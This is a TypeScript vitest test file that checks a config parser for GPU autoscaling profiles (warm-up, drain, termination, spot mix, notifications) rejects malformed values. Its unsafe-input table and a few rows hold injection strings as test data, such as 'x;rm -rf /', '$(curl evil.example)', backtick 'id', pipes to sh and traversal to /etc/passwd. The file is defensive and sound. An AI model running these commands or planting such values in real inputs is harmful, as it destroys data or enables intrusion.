import { describe, expect, it } from 'vitest';
import { parseConfig } from '../../../shared/config';
import { expectConfigError, expectIssue, withProfile } from './helpers';

interface Row {
  name: string;
  raw: unknown;
  path: string;
  reason: string;
}

const P = 'profiles.gpu';
const warmup = (value: Record<string, unknown>): unknown => withProfile({ warmup: value });
const drain = (value: Record<string, unknown>): unknown => withProfile({ drain: value });
const termination = (value: Record<string, unknown>): unknown => withProfile({ termination: value });
const mix = (value: Record<string, unknown>): unknown => withProfile({ mix: value });
const notifications = (value: Record<string, unknown>): unknown => withProfile({ notifications: value });
const metric = (value: Record<string, unknown>): unknown =>
  termination({ tieBreak: 'least-loaded', loadMetric: { namespace: 'AWS/EC2', metricName: 'CPUUtilization', ...value } });

const S3_REASON = 'must be an s3://bucket/key URI';
const URL_REASON = 'must be an http(s) URL';
const PATH_REASON = 'must be an absolute path';

// Values that must never reach an instance: shell metacharacters, quotes, whitespace, traversal.
const UNSAFE_SUFFIXES: ReadonlyArray<[string, string]> = [
  ['semicolon', 'x;rm -rf /'],
  ['command substitution', '$(curl evil.example)'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell variable expansion is the point of this row
  ['dollar variable', '${HOME}'],
  ['backticks', '`id`'],
  ['newline', 'x\nrm -rf /'],
  ['carriage return', 'x\r'],
  ['tab', 'x\ty'],
  ['space', 'my model'],
  ['single quote', "x'y"],
  ['double quote', 'x"y'],
  ['pipe', 'x|sh'],
  ['ampersand', 'x&y'],
  ['redirect', 'x>out'],
  ['backslash', 'x\\y'],
  ['non-ASCII', 'modèle'],
];

const unsafeRows: Row[] = UNSAFE_SUFFIXES.flatMap(([label, bad]) => [
  {
    name: `model URI with ${label}`,
    raw: warmup({ modelUris: ['s3://ok-bucket/ok/', `s3://my-models-bucket/${bad}`] }),
    path: `${P}.warmup.modelUris[1]`,
    reason: S3_REASON,
  },
  {
    name: `readiness URL with ${label}`,
    raw: warmup({ readinessUrl: `http://127.0.0.1:8080/${bad}` }),
    path: `${P}.warmup.readinessUrl`,
    reason: URL_REASON,
  },
  {
    name: `drain URL with ${label}`,
    raw: drain({ drainUrl: `http://127.0.0.1:8080/${bad}` }),
    path: `${P}.drain.drainUrl`,
    reason: URL_REASON,
  },
  {
    name: `cache dir with ${label}`,
    raw: warmup({ cacheDir: `/opt/${bad}` }),
    path: `${P}.warmup.cacheDir`,
    reason: PATH_REASON,
  },
  {
    name: `warm-up document name with ${label}`,
    raw: warmup({ documentName: `Doc${bad}` }),
    path: `${P}.warmup.documentName`,
    reason: 'must be an SSM document name',
  },
]);

const rows: Row[] = [
  // top level
  { name: 'null file', raw: null, path: '(root)', reason: 'must be an object (got null)' },
  { name: 'array file', raw: [], path: '(root)', reason: 'must be an object (got an array of 0)' },
  { name: 'string file', raw: 'version: 1', path: '(root)', reason: 'must be an object' },
  { name: 'missing version', raw: { profiles: { a: {} } }, path: 'version', reason: 'is required (supported versions: 1)' },
  { name: 'version 2', raw: { version: 2, profiles: { a: {} } }, path: 'version', reason: 'unsupported version 2; supported versions: 1' },
  { name: 'version as string', raw: { version: '1', profiles: { a: {} } }, path: 'version', reason: 'unsupported version "1"' },
  { name: 'unknown top-level key', raw: { version: 1, profiles: { a: {} }, profile: {} }, path: 'profile', reason: 'did you mean "profiles"?' },
  { name: '$schema not a string', raw: { $schema: 1, version: 1, profiles: { a: {} } }, path: '$schema', reason: 'must be a string' },
  { name: 'opt-in tag key not a string', raw: { version: 1, optInTagKey: 7, profiles: { a: {} } }, path: 'optInTagKey', reason: 'must be a string (got 7)' },
  { name: 'empty opt-in tag key', raw: { version: 1, optInTagKey: '', profiles: { a: {} } }, path: 'optInTagKey', reason: 'must be a valid tag key' },
  {
    name: 'opt-in tag key too long',
    raw: { version: 1, optInTagKey: 'k'.repeat(129), profiles: { a: {} } },
    path: 'optInTagKey',
    reason: 'must be a valid tag key',
  },
  {
    name: 'opt-in tag key with newline',
    raw: { version: 1, optInTagKey: 'a\nb', profiles: { a: {} } },
    path: 'optInTagKey',
    reason: 'must be a valid tag key',
  },
  {
    name: 'opt-in tag key reserved by AWS',
    raw: { version: 1, optInTagKey: 'AWS:profile', profiles: { a: {} } },
    path: 'optInTagKey',
    reason: 'must not start with "aws:"',
  },
  { name: 'missing profiles', raw: { version: 1 }, path: 'profiles', reason: 'is required' },
  { name: 'no profiles', raw: { version: 1, profiles: {} }, path: 'profiles', reason: 'must define at least one profile' },
  { name: 'profiles as array', raw: { version: 1, profiles: [{}] }, path: 'profiles', reason: 'must be an object' },
  // profile names and values
  { name: 'upper-case profile name', raw: { version: 1, profiles: { GPU: {} } }, path: 'profiles.GPU', reason: 'invalid profile name' },
  { name: 'profile name with underscore', raw: { version: 1, profiles: { gpu_1: {} } }, path: 'profiles.gpu_1', reason: 'invalid profile name' },
  { name: 'profile name starting with -', raw: { version: 1, profiles: { '-gpu': {} } }, path: 'profiles["-gpu"]', reason: 'invalid profile name' },
  { name: 'empty profile name', raw: { version: 1, profiles: { '': {} } }, path: 'profiles[""]', reason: 'invalid profile name' },
  {
    name: 'profile name of 64 characters',
    raw: { version: 1, profiles: { ['a'.repeat(64)]: {} } },
    path: `profiles.${'a'.repeat(64)}`,
    reason: 'invalid profile name',
  },
  { name: 'profile name with a space', raw: { version: 1, profiles: { 'gpu x': {} } }, path: 'profiles["gpu x"]', reason: 'invalid profile name' },
  { name: 'profile is null', raw: withProfile(null), path: P, reason: 'must be an object (got null)' },
  { name: 'profile is a string', raw: withProfile('enforce'), path: P, reason: 'must be an object' },
  { name: 'unknown profile key', raw: withProfile({ warmUp: {} }), path: `${P}.warmUp`, reason: 'did you mean "warmup"?' },
  { name: 'mode in capitals', raw: withProfile({ mode: 'ENFORCE' }), path: `${P}.mode`, reason: 'must be one of "enforce", "observe" (got "ENFORCE")' },
  { name: 'mode as boolean', raw: withProfile({ mode: true }), path: `${P}.mode`, reason: 'must be one of' },
  // warmup
  { name: 'warmup is null', raw: withProfile({ warmup: null }), path: `${P}.warmup`, reason: 'must be an object (got null)' },
  { name: 'warmup unknown key', raw: warmup({ retries: 3 }), path: `${P}.warmup.retries`, reason: 'unknown key' },
  { name: 'warmup enabled as string', raw: warmup({ enabled: 'yes' }), path: `${P}.warmup.enabled`, reason: 'must be true or false (got "yes")' },
  { name: 'warmup document name as number', raw: warmup({ documentName: 5 }), path: `${P}.warmup.documentName`, reason: 'or null (got 5)' },
  { name: 'warmup document name too short', raw: warmup({ documentName: 'ab' }), path: `${P}.warmup.documentName`, reason: 'must be an SSM document name' },
  {
    name: 'warmup document name too long',
    raw: warmup({ documentName: 'd'.repeat(129) }),
    path: `${P}.warmup.documentName`,
    reason: 'must be an SSM document name',
  },
  { name: 'model URIs not an array', raw: warmup({ modelUris: 's3://b-1/x' }), path: `${P}.warmup.modelUris`, reason: 'must be an array' },
  {
    name: 'more than 20 model URIs',
    raw: warmup({ modelUris: Array.from({ length: 21 }, (_, i) => `s3://bucket/m${i}`) }),
    path: `${P}.warmup.modelUris`,
    reason: 'must have at most 20 items (got 21)',
  },
  { name: 'model URI as number', raw: warmup({ modelUris: [1] }), path: `${P}.warmup.modelUris[0]`, reason: 'must be a string (got 1)' },
  { name: 'model URI over https', raw: warmup({ modelUris: ['https://bucket.s3.amazonaws.com/x'] }), path: `${P}.warmup.modelUris[0]`, reason: S3_REASON },
  { name: 'model URI with upper-case bucket', raw: warmup({ modelUris: ['s3://MyBucket/x'] }), path: `${P}.warmup.modelUris[0]`, reason: S3_REASON },
  { name: 'model URI without key', raw: warmup({ modelUris: ['s3://bucket/'] }), path: `${P}.warmup.modelUris[0]`, reason: S3_REASON },
  { name: 'model URI with 2-character bucket', raw: warmup({ modelUris: ['s3://ab/x'] }), path: `${P}.warmup.modelUris[0]`, reason: S3_REASON },
  { name: 'model URI with traversal', raw: warmup({ modelUris: ['s3://bucket/models/../../etc/passwd'] }), path: `${P}.warmup.modelUris[0]`, reason: '".."' },
  { name: 'model URI with .. in bucket', raw: warmup({ modelUris: ['s3://my..bucket/x'] }), path: `${P}.warmup.modelUris[0]`, reason: '".."' },
  {
    name: 'duplicate model URI',
    raw: warmup({ modelUris: ['s3://bucket/a', 's3://bucket/b', 's3://bucket/a'] }),
    path: `${P}.warmup.modelUris[2]`,
    reason: 'duplicate model URI s3://bucket/a',
  },
  { name: 'readiness URL with ftp', raw: warmup({ readinessUrl: 'ftp://127.0.0.1/health' }), path: `${P}.warmup.readinessUrl`, reason: URL_REASON },
  { name: 'readiness URL with query', raw: warmup({ readinessUrl: 'http://127.0.0.1/health?a=1' }), path: `${P}.warmup.readinessUrl`, reason: URL_REASON },
  {
    name: 'readiness URL with userinfo',
    raw: warmup({ readinessUrl: 'http://user:pw@127.0.0.1/health' }),
    path: `${P}.warmup.readinessUrl`,
    reason: URL_REASON,
  },
  { name: 'readiness URL with percent escape', raw: warmup({ readinessUrl: 'http://127.0.0.1/%0a' }), path: `${P}.warmup.readinessUrl`, reason: URL_REASON },
  {
    name: 'readiness URL with port 0',
    raw: warmup({ readinessUrl: 'http://127.0.0.1:0/health' }),
    path: `${P}.warmup.readinessUrl`,
    reason: 'port must be between 1 and 65535',
  },
  {
    name: 'readiness URL with port 65536',
    raw: warmup({ readinessUrl: 'http://127.0.0.1:65536/health' }),
    path: `${P}.warmup.readinessUrl`,
    reason: 'port must be between 1 and 65535',
  },
  { name: 'readiness URL as null', raw: warmup({ readinessUrl: null }), path: `${P}.warmup.readinessUrl`, reason: 'must be a string (got null)' },
  { name: 'relative cache dir', raw: warmup({ cacheDir: 'opt/models' }), path: `${P}.warmup.cacheDir`, reason: PATH_REASON },
  { name: 'root cache dir', raw: warmup({ cacheDir: '/' }), path: `${P}.warmup.cacheDir`, reason: PATH_REASON },
  { name: 'cache dir with traversal', raw: warmup({ cacheDir: '/opt/../etc' }), path: `${P}.warmup.cacheDir`, reason: 'must not contain a ".." path segment' },
  { name: 'cache dir ending in ..', raw: warmup({ cacheDir: '/opt/..' }), path: `${P}.warmup.cacheDir`, reason: '".."' },
  { name: 'cache dir too long', raw: warmup({ cacheDir: `/${'a'.repeat(256)}` }), path: `${P}.warmup.cacheDir`, reason: PATH_REASON },
  { name: 'warm-up timeout below 60 s', raw: warmup({ timeoutSeconds: 59 }), path: `${P}.warmup.timeoutSeconds`, reason: 'must be ≥ 60 (got 59)' },
  { name: 'warm-up timeout above 48 h', raw: warmup({ timeoutSeconds: 172_801 }), path: `${P}.warmup.timeoutSeconds`, reason: 'must be ≤ 172800 (got 172801)' },
  {
    name: 'warm-up timeout fractional',
    raw: warmup({ timeoutSeconds: 1800.5 }),
    path: `${P}.warmup.timeoutSeconds`,
    reason: 'must be an integer (got 1800.5)',
  },
  { name: 'warm-up timeout as string', raw: warmup({ timeoutSeconds: '1800' }), path: `${P}.warmup.timeoutSeconds`, reason: 'must be an integer (got "1800")' },
  { name: 'warm-up timeout NaN', raw: warmup({ timeoutSeconds: Number.NaN }), path: `${P}.warmup.timeoutSeconds`, reason: 'must be an integer (got NaN)' },
  { name: 'max attempts 0', raw: warmup({ maxAttempts: 0 }), path: `${P}.warmup.maxAttempts`, reason: 'must be ≥ 1' },
  { name: 'max attempts 11', raw: warmup({ maxAttempts: 11 }), path: `${P}.warmup.maxAttempts`, reason: 'must be ≤ 10' },
  { name: 'on failure retry', raw: warmup({ onFailure: 'retry' }), path: `${P}.warmup.onFailure`, reason: 'must be one of "abandon", "continue"' },
  // drain
  { name: 'drain is an array', raw: withProfile({ drain: [] }), path: `${P}.drain`, reason: 'must be an object' },
  { name: 'drain unknown key', raw: drain({ timeout: 30 }), path: `${P}.drain.timeout`, reason: 'unknown key' },
  { name: 'drain enabled as number', raw: drain({ enabled: 1 }), path: `${P}.drain.enabled`, reason: 'must be true or false (got 1)' },
  { name: 'drain document name with space', raw: drain({ documentName: 'My Drain' }), path: `${P}.drain.documentName`, reason: 'must be an SSM document name' },
  { name: 'drain URL not http', raw: drain({ drainUrl: 'file:///etc/passwd' }), path: `${P}.drain.drainUrl`, reason: URL_REASON },
  { name: 'drain timeout below 10 s', raw: drain({ timeoutSeconds: 9 }), path: `${P}.drain.timeoutSeconds`, reason: 'must be ≥ 10' },
  { name: 'drain timeout above 2 h', raw: drain({ timeoutSeconds: 7201 }), path: `${P}.drain.timeoutSeconds`, reason: 'must be ≤ 7200' },
  {
    name: 'spot drain below 10 s',
    raw: drain({ spotInterruptionTimeoutSeconds: 9 }),
    path: `${P}.drain.spotInterruptionTimeoutSeconds`,
    reason: 'must be ≥ 10',
  },
  {
    name: 'spot drain of the whole 120 s',
    raw: drain({ spotInterruptionTimeoutSeconds: 120 }),
    path: `${P}.drain.spotInterruptionTimeoutSeconds`,
    reason: 'must be ≤ 110 (got 120)',
  },
  // termination
  { name: 'termination unknown key', raw: termination({ order: 'oldest-first' }), path: `${P}.termination.order`, reason: 'unknown key' },
  {
    name: 'tie-break random',
    raw: termination({ tieBreak: 'random' }),
    path: `${P}.termination.tieBreak`,
    reason: 'must be one of "oldest-first", "newest-first", "least-loaded"',
  },
  {
    name: 'least-loaded without metric',
    raw: termination({ tieBreak: 'least-loaded' }),
    path: `${P}.termination.loadMetric`,
    reason: 'is required when tieBreak is "least-loaded"',
  },
  {
    name: 'least-loaded with null metric',
    raw: termination({ tieBreak: 'least-loaded', loadMetric: null }),
    path: `${P}.termination.loadMetric`,
    reason: 'is required when tieBreak is "least-loaded"',
  },
  { name: 'load metric as string', raw: termination({ loadMetric: 'CPUUtilization' }), path: `${P}.termination.loadMetric`, reason: 'must be an object' },
  {
    name: 'load metric without namespace',
    raw: termination({ loadMetric: { metricName: 'x' } }),
    path: `${P}.termination.loadMetric.namespace`,
    reason: 'is required',
  },
  {
    name: 'load metric without name',
    raw: termination({ loadMetric: { namespace: 'x' } }),
    path: `${P}.termination.loadMetric.metricName`,
    reason: 'is required',
  },
  { name: 'load metric unknown key', raw: metric({ dimension: 'InstanceId' }), path: `${P}.termination.loadMetric.dimension`, reason: 'unknown key' },
  {
    name: 'load metric namespace starting with :',
    raw: metric({ namespace: ':x' }),
    path: `${P}.termination.loadMetric.namespace`,
    reason: 'must be a CloudWatch namespace',
  },
  {
    name: 'load metric namespace with ;',
    raw: metric({ namespace: 'a;b' }),
    path: `${P}.termination.loadMetric.namespace`,
    reason: 'must be a CloudWatch namespace',
  },
  { name: 'empty metric name', raw: metric({ metricName: '' }), path: `${P}.termination.loadMetric.metricName`, reason: 'must be a CloudWatch metric name' },
  {
    name: 'metric name with newline',
    raw: metric({ metricName: 'a\nb' }),
    path: `${P}.termination.loadMetric.metricName`,
    reason: 'must be a CloudWatch metric name',
  },
  { name: 'statistic Sum', raw: metric({ statistic: 'Sum' }), path: `${P}.termination.loadMetric.statistic`, reason: 'must be one of "Average", "Maximum"' },
  { name: 'period 30 s', raw: metric({ periodSeconds: 30 }), path: `${P}.termination.loadMetric.periodSeconds`, reason: 'must be ≥ 60' },
  {
    name: 'period not a minute multiple',
    raw: metric({ periodSeconds: 90 }),
    path: `${P}.termination.loadMetric.periodSeconds`,
    reason: 'must be a multiple of 60 (got 90)',
  },
  { name: 'period above a day', raw: metric({ periodSeconds: 86_460 }), path: `${P}.termination.loadMetric.periodSeconds`, reason: 'must be ≤ 86400' },
  {
    name: 'empty model version tag key',
    raw: termination({ modelVersionTagKey: '' }),
    path: `${P}.termination.modelVersionTagKey`,
    reason: 'must be a valid tag key',
  },
  {
    name: 'model version tag key reserved',
    raw: termination({ modelVersionTagKey: 'aws:ec2launchtemplate:version' }),
    path: `${P}.termination.modelVersionTagKey`,
    reason: 'must not start with "aws:"',
  },
  {
    name: 'model version tag key as number',
    raw: termination({ modelVersionTagKey: 3 }),
    path: `${P}.termination.modelVersionTagKey`,
    reason: 'must be a string (got 3)',
  },
  {
    name: 'empty current model version',
    raw: termination({ currentModelVersion: '' }),
    path: `${P}.termination.currentModelVersion`,
    reason: 'must be a valid tag value',
  },
  {
    name: 'current model version too long',
    raw: termination({ currentModelVersion: 'v'.repeat(257) }),
    path: `${P}.termination.currentModelVersion`,
    reason: 'must be a valid tag value',
  },
  {
    name: 'current model version with $(...)',
    raw: termination({ currentModelVersion: '$(id)' }),
    path: `${P}.termination.currentModelVersion`,
    reason: 'must be a valid tag value',
  },
  {
    name: 'current model version as number',
    raw: termination({ currentModelVersion: 3 }),
    path: `${P}.termination.currentModelVersion`,
    reason: 'or null (got 3)',
  },
  // mix
  { name: 'mix is a number', raw: withProfile({ mix: 20 }), path: `${P}.mix`, reason: 'must be an object (got 20)' },
  { name: 'mix unknown key', raw: mix({ step: 10 }), path: `${P}.mix.step`, reason: 'unknown key' },
  { name: 'mix enabled as string', raw: mix({ enabled: 'true' }), path: `${P}.mix.enabled`, reason: 'must be true or false' },
  { name: 'base capacity not an object', raw: mix({ onDemandBaseCapacity: 2 }), path: `${P}.mix.onDemandBaseCapacity`, reason: 'must be an object (got 2)' },
  { name: 'base capacity unknown key', raw: mix({ onDemandBaseCapacity: { min: 1 } }), path: `${P}.mix.onDemandBaseCapacity.min`, reason: 'unknown key' },
  {
    name: 'negative base floor',
    raw: mix({ onDemandBaseCapacity: { floor: -1 } }),
    path: `${P}.mix.onDemandBaseCapacity.floor`,
    reason: 'must be ≥ 0 (got -1)',
  },
  {
    name: 'fractional base ceiling',
    raw: mix({ onDemandBaseCapacity: { ceiling: 1.5 } }),
    path: `${P}.mix.onDemandBaseCapacity.ceiling`,
    reason: 'must be an integer',
  },
  {
    name: 'huge base ceiling',
    raw: mix({ onDemandBaseCapacity: { ceiling: 100_001 } }),
    path: `${P}.mix.onDemandBaseCapacity.ceiling`,
    reason: 'must be ≤ 100000',
  },
  {
    name: 'base floor above ceiling',
    raw: mix({ onDemandBaseCapacity: { floor: 3, ceiling: 2 } }),
    path: `${P}.mix.onDemandBaseCapacity.floor`,
    reason: 'must be ≤ ceiling (3 > 2)',
  },
  { name: 'percentage unknown key', raw: mix({ onDemandPercentage: { max: 90 } }), path: `${P}.mix.onDemandPercentage.max`, reason: 'unknown key' },
  { name: 'percentage floor 101', raw: mix({ onDemandPercentage: { floor: 101 } }), path: `${P}.mix.onDemandPercentage.floor`, reason: 'must be ≤ 100' },
  { name: 'percentage floor negative', raw: mix({ onDemandPercentage: { floor: -1 } }), path: `${P}.mix.onDemandPercentage.floor`, reason: 'must be ≥ 0' },
  { name: 'percentage target 101', raw: mix({ onDemandPercentage: { target: 101 } }), path: `${P}.mix.onDemandPercentage.target`, reason: 'must be ≤ 100' },
  {
    name: 'percentage ceiling as string',
    raw: mix({ onDemandPercentage: { ceiling: '100' } }),
    path: `${P}.mix.onDemandPercentage.ceiling`,
    reason: 'must be an integer',
  },
  {
    name: 'percentage floor above ceiling',
    raw: mix({ onDemandPercentage: { floor: 80, target: 70, ceiling: 60 } }),
    path: `${P}.mix.onDemandPercentage.floor`,
    reason: 'must be ≤ ceiling (80 > 60)',
  },
  {
    name: 'target below floor',
    raw: mix({ onDemandPercentage: { floor: 30, target: 20 } }),
    path: `${P}.mix.onDemandPercentage.target`,
    reason: 'must be ≥ floor (20 < 30)',
  },
  {
    name: 'target above ceiling (default target)',
    raw: mix({ onDemandPercentage: { ceiling: 10 } }),
    path: `${P}.mix.onDemandPercentage.target`,
    reason: 'must be ≤ ceiling (20 > 10)',
  },
  { name: 'step 0', raw: mix({ stepPercent: 0 }), path: `${P}.mix.stepPercent`, reason: 'must be ≥ 1' },
  { name: 'step 101', raw: mix({ stepPercent: 101 }), path: `${P}.mix.stepPercent`, reason: 'must be ≤ 100' },
  { name: 'decay step fractional', raw: mix({ decayStepPercent: 2.5 }), path: `${P}.mix.decayStepPercent`, reason: 'must be an integer' },
  { name: 'decay step 0', raw: mix({ decayStepPercent: 0 }), path: `${P}.mix.decayStepPercent`, reason: 'must be ≥ 1' },
  { name: 'cooldown 59 s', raw: mix({ cooldownSeconds: 59 }), path: `${P}.mix.cooldownSeconds`, reason: 'must be ≥ 60' },
  { name: 'cooldown above a day', raw: mix({ cooldownSeconds: 86_401 }), path: `${P}.mix.cooldownSeconds`, reason: 'must be ≤ 86400' },
  { name: 'signal window 299 s', raw: mix({ signalWindowSeconds: 299 }), path: `${P}.mix.signalWindowSeconds`, reason: 'must be ≥ 300' },
  { name: 'signal window above a day', raw: mix({ signalWindowSeconds: 86_401 }), path: `${P}.mix.signalWindowSeconds`, reason: 'must be ≤ 86400' },
  { name: 'raise threshold 0', raw: mix({ raiseThreshold: 0 }), path: `${P}.mix.raiseThreshold`, reason: 'must be > 0 (got 0)' },
  { name: 'raise threshold as string', raw: mix({ raiseThreshold: '0.2' }), path: `${P}.mix.raiseThreshold`, reason: 'must be a number (got "0.2")' },
  {
    name: 'raise threshold infinite',
    raw: mix({ raiseThreshold: Number.POSITIVE_INFINITY }),
    path: `${P}.mix.raiseThreshold`,
    reason: 'must be a number (got Infinity)',
  },
  { name: 'lower threshold negative', raw: mix({ lowerThreshold: -0.1 }), path: `${P}.mix.lowerThreshold`, reason: 'must be ≥ 0' },
  {
    name: 'lower threshold equal to raise',
    raw: mix({ raiseThreshold: 0.1, lowerThreshold: 0.1 }),
    path: `${P}.mix.lowerThreshold`,
    reason: 'must be < raiseThreshold (0.1 ≥ 0.1)',
  },
  {
    name: 'lower threshold above default raise',
    raw: mix({ lowerThreshold: 0.5 }),
    path: `${P}.mix.lowerThreshold`,
    reason: 'must be < raiseThreshold (0.5 ≥ 0.2)',
  },
  { name: 'quiet period negative', raw: mix({ quietPeriodSeconds: -1 }), path: `${P}.mix.quietPeriodSeconds`, reason: 'must be ≥ 0' },
  { name: 'quiet period above a day', raw: mix({ quietPeriodSeconds: 86_401 }), path: `${P}.mix.quietPeriodSeconds`, reason: 'must be ≤ 86400' },
  { name: 'fallback as string', raw: mix({ fallbackOnCapacityFailure: 'no' }), path: `${P}.mix.fallbackOnCapacityFailure`, reason: 'must be true or false' },
  // notifications
  { name: 'notifications is null', raw: withProfile({ notifications: null }), path: `${P}.notifications`, reason: 'must be an object (got null)' },
  {
    name: 'notifications unknown key',
    raw: notifications({ slack: true }),
    path: `${P}.notifications.slack`,
    reason: 'unknown key (allowed: sns, eventBridge, minSeverity, httpsFormat)',
  },
  {
    name: 'https format unknown',
    raw: notifications({ httpsFormat: 'slack' }),
    path: `${P}.notifications.httpsFormat`,
    reason: 'must be one of "json", "chatbot" (got "slack")',
  },
  { name: 'sns as string', raw: notifications({ sns: 'true' }), path: `${P}.notifications.sns`, reason: 'must be true or false' },
  { name: 'eventBridge as number', raw: notifications({ eventBridge: 0 }), path: `${P}.notifications.eventBridge`, reason: 'must be true or false' },
  {
    name: 'event bridge spelled in lower case',
    raw: notifications({ eventbridge: true }),
    path: `${P}.notifications.eventbridge`,
    reason: 'did you mean "eventBridge"?',
  },
  {
    name: 'min severity debug',
    raw: notifications({ minSeverity: 'debug' }),
    path: `${P}.notifications.minSeverity`,
    reason: 'must be one of "info", "warning", "error" (got "debug")',
  },
  ...unsafeRows,
];

describe.each(rows)('parseConfig rejects: $name', ({ raw, path, reason }) => {
  it(`names ${path}`, () => {
    expectIssue(expectConfigError(raw), path, reason);
  });
});

describe('warmup.cacheDir is never a system directory (issue 13 item 9)', () => {
  it.each([
    '/etc',
    '/etc/models',
    '/usr/local/models',
    '/boot',
    '/',
    '/opt',
    '/var',
    '/var/log/models',
    '/root/models',
    '/tmp',
    '/proc/self',
    '/sys',
    '/dev/shm',
    '/bin',
    '/opt/../etc',
  ])('rejects %s', (cacheDir) => {
    expect(() => parseConfig({ version: 1, profiles: { gpu: { warmup: { cacheDir } } } })).toThrow(/cacheDir/);
  });
  it.each(['/opt/models', '/srv/models', '/mnt/nvme/models', '/data/models', '/var/lib/models', '/var/cache/models', '/home/ml/models'])(
    'accepts %s',
    (cacheDir) => {
      expect(parseConfig({ version: 1, profiles: { gpu: { warmup: { cacheDir } } } }).profiles.gpu?.warmup.cacheDir).toBe(cacheDir);
    },
  );
});
